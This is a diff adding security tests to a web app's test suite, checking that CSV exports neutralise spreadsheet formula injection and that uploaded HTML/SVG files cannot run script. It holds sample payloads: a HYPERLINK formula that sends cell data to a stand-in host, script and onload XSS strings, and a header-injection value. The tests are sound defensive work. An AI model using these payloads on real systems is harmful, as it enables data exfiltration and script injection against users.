@@ -1,7 +1,10 @@
 /** Ways in: sockets and requests of people who have no right to them, with honest people at work meanwhile. */
+import { createHash } from 'node:crypto';
 import { request } from 'node:http';
 import { connect } from 'node:net';
+import { unzipSync } from 'fflate';
 import * as encoding from 'lib0/encoding';
+import Papa from 'papaparse';
 import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
 import { WebSocket } from 'ws';
 import * as Y from 'yjs';
@@ -277,6 +280,81 @@ test('HTML and script in every text field come back as JSON that no browser take
     for (const field of texts) expect(record[field], `${name}.${field}`).toBe(evil);
   }
   expect(fields).toBeGreaterThan(12);
+});
+
+test('what a spreadsheet would run as a formula is text in every table of the export, the history among them', async () => {
+  const formulas = [
+    '=HYPERLINK("http://evil.test/?"&A1,"click")',
+    '+1+1',
+    '-2+3',
+    '@SUM(1,1)',
+    '\t=1+1',
+    '＝1+1',
+    "'=1+1",
+  ];
+  for (const formula of formulas) {
+    const bodies = {
+      contact: { firstName: formula, lastName: formula, tags: [formula] },
+      company: { name: formula },
+      deal: { title: formula },
+      task: { title: formula },
+      activity: { kind: 'note', at: Date.now(), subject: formula },
+    };
+    for (const [entity, body] of Object.entries(bodies)) {
+      const made = await arena.ask('POST', `/api/records/${entity}`, { cookie: arena.eve, body });
+      expect(made.status, `${entity}: ${await made.text()}`).toBe(201);
+    }
+  }
+  const answer = await arena.ask('GET', '/api/export', { cookie: arena.anna });
+  const tables = Object.entries(unzipSync(new Uint8Array(await answer.arrayBuffer()))).flatMap(([name, bytes]) =>
+    name.endsWith('.csv') ? [{ name, ...Papa.parse<string[]>(new TextDecoder().decode(bytes)) }] : [],
+  );
+  const isRun = (cell: string) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);
+  for (const { name, data } of tables) expect(data.flat().filter(isRun), name).toEqual([]);
+  // The formulas are in there, marked: what is empty would hold no formula either.
+  for (const name of ['contacts.csv', 'companies.csv', 'deals.csv', 'tasks.csv', 'activities.csv', 'history.csv']) {
+    const cells = tables.find((table) => table.name === name)?.data.flat() ?? [];
+    expect(cells.filter((cell) => cell.includes('HYPERLINK')).length, name).toBeGreaterThan(0);
+  }
+});
+
+test.each([
+  ['page.html', 'text/html', '<script>alert(1)</script>'],
+  [
+    'drawing.svg',
+    'image/svg+xml',
+    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
+  ],
+  ['picture.png', 'image/png', '<script>alert(1)</script>'],
+])('%s of a member is nothing that runs, whatever its address says it is', async (name, type, text) => {
+  const bytes = new TextEncoder().encode(text);
+  const hash = createHash('sha256').update(bytes).digest('hex');
+  const sent = await fetch(`${arena.url}/api/files/${hash}`, {
+    method: 'PUT',
+    headers: { cookie: arena.eve, origin: arena.url },
+    body: bytes,
+  });
+  expect(sent.status, await sent.text()).toBeLessThan(300);
+  const file = { name, type, hash, bytes: bytes.length, at: Date.now(), about: ['deal_honest0'] };
+  const made = await arena.ask('POST', '/api/records/file', { cookie: arena.eve, body: file });
+  expect(made.status, await made.text()).toBe(201);
+  for (const claimed of [
+    type,
+    'text/html',
+    'image/svg+xml',
+    'application/xhtml+xml',
+    'text/html\r\nx: y',
+    'image/png',
+    '',
+  ]) {
+    const query = new URLSearchParams({ name, type: claimed });
+    const { status, headers } = await arena.ask('GET', `/api/files/${hash}?${query}`, { cookie: arena.anna });
+    expect(status).toBe(200);
+    expect(['application/octet-stream', 'image/png']).toContain(headers.get('content-type'));
+    if (headers.get('content-type') !== 'image/png') expect(headers.get('content-disposition')).toMatch(/^attachment;/);
+    expect(headers.get('x-content-type-options')).toBe('nosniff');
+    expect(headers.get('content-security-policy')).toContain("default-src 'none'; sandbox;");
+  }
 });
 
 test('guessing passwords ends after ten tries a minute, whatever address one claims to have', async () => {
